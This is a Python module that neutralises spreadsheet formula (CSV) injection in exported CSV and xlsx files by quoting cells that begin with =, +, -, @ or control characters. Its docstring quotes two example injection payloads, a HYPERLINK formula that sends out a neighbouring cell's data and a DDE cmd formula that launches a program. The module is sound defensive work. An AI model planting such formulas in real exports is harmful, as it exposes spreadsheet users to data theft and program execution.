"""Inert spreadsheets: nothing xinyi writes can run as a formula (OWASP CSV injection).

Officials open lists and exports in Excel or WPS, where a cell text starting with ``=``, ``+``,
``-``, ``@`` (or a tab / carriage return) is read as a formula: ``=HYPERLINK("http://...?"&A2)``
sends a neighbouring cell out, ``=cmd|' /C calc'!A0`` starts a program. Every text cell goes
through :func:`inert_text`:

* in .csv a dangerous text gets a leading apostrophe (``'=1+2``), which spreadsheets show as text;
* in .xlsx every text is written as a string cell (never a formula, URL or number), and a
  dangerous one also gets Excel's quote prefix (the text stays text when edited), see
  :class:`InertWorkbook`.

Escape sequences and control characters are removed from text on the way out (a terminal or a
cell viewer never receives them). Numbers, dates and booleans keep their types.

Use :func:`write_csv` / :func:`scoring.core.workbook.write_xlsx` (or :mod:`scoring.core.workbook`, the one workbook
writer with layout, formats and print setup) instead of ``DataFrame.to_csv`` / ``to_excel``.
"""

from __future__ import annotations

import datetime as dt
import math
from pathlib import Path
from types import TracebackType
from typing import Any

import numpy as np
import pandas as pd

from scoring.core.privacy import strip_controls

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_dangerous(text: str) -> bool:
    """True when ``text`` would be read as a formula: it starts with ``= + - @``, a tab or a CR
    (also after leading spaces, which some spreadsheets skip)."""
    if not text:
        return False
    if text[0] in FORMULA_PREFIXES:
        return True
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_PREFIXES


def inert_text(value: str) -> str:
    """A text cell made inert for .csv: controls removed, a formula prefix neutralised with ``'``."""
    text = strip_controls(value)
    return "'" + text if is_dangerous(value) or is_dangerous(text) else text


def inert_value(value: object) -> object:
    """:func:`inert_text` for strings; every other value unchanged."""
    return inert_text(value) if isinstance(value, str) else value


def _inert_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_inert_labels(lvl) for lvl in index.levels])
    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
        return index.map(inert_value)
    return index


def inert_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells, column names and index labels are inert for CSV."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype) or isinstance(s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(inert_value)
    out.columns = _inert_labels(out.columns)
    out.index = _inert_labels(out.index)
    names = [inert_value(n) for n in out.index.names]
    out.index.names = names
    return out


def write_csv(df: pd.DataFrame, path: str | Path, *, index: bool = False, encoding: str = "utf-8") -> Path:
    """Write ``df`` as CSV with every text cell inert (see :func:`inert_text`)."""
    p = Path(path)
    p.parent.mkdir(parents=True, exist_ok=True)
    inert_frame(df).to_csv(p, index=index, encoding=encoding)
    return p


class InertWorkbook:
    """An .xlsx workbook (xlsxwriter) where every text is a string cell and no cell is a formula.

    ``with InertWorkbook(path) as wb: ws = wb.sheet("等级名单", frame)`` returns the xlsxwriter
    worksheet for layout (``freeze_panes``, ``set_column``, ``autofilter``).
    """

    def __init__(self, path: str | Path):
        import xlsxwriter

        self.path = Path(path)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.book = xlsxwriter.Workbook(
            str(self.path),
            {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False},
        )
        self._quoted = self.book.add_format({"quote_prefix": True})
        self._bold = self.book.add_format({"bold": True})
        self._date = self.book.add_format({"num_format": "yyyy-mm-dd"})
        self._datetime = self.book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})

    def _cell(self, ws: Any, r: int, c: int, v: object, fmt: Any = None) -> None:
        if v is None or v is pd.NaT or (isinstance(v, float) and math.isnan(v)):
            ws.write_blank(r, c, None, fmt)
        elif isinstance(v, (bool, np.bool_)):
            ws.write_boolean(r, c, bool(v), fmt)
        elif isinstance(v, (int, float, np.integer, np.floating)):
            x = float(v)
            if math.isfinite(x):
                ws.write_number(r, c, x, fmt)
            else:
                ws.write_string(r, c, str(x), fmt)
        elif isinstance(v, (dt.datetime, pd.Timestamp)):
            ts = pd.Timestamp(v)
            if ts.tzinfo is not None:
                ts = ts.tz_convert(None)
            ws.write_datetime(r, c, ts.to_pydatetime(), self._datetime)
        elif isinstance(v, dt.date):
            ws.write_datetime(r, c, dt.datetime(v.year, v.month, v.day), self._date)
        else:
            text = strip_controls(str(v))
            dangerous = is_dangerous(str(v)) or is_dangerous(text)
            ws.write_string(r, c, text, self._quoted if dangerous else fmt)

    def sheet(self, name: str, df: pd.DataFrame, *, index: bool = False) -> Any:
        """Add ``df`` as the sheet ``name`` (header row in bold; the index as leading columns)."""
        ws = self.book.add_worksheet(strip_controls(name, newlines=False)[:31])
        frame = df.reset_index() if index else df
        for c, col in enumerate(frame.columns):
            label = " / ".join(str(x) for x in col) if isinstance(col, tuple) else col
            self._cell(ws, 0, c, str(label), self._bold)
        for r, row in enumerate(frame.itertuples(index=False, name=None), start=1):
            for c, v in enumerate(row):
                self._cell(ws, r, c, v)
        return ws

    def close(self) -> None:
        self.book.close()

    def __enter__(self) -> InertWorkbook:
        return self

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.close()
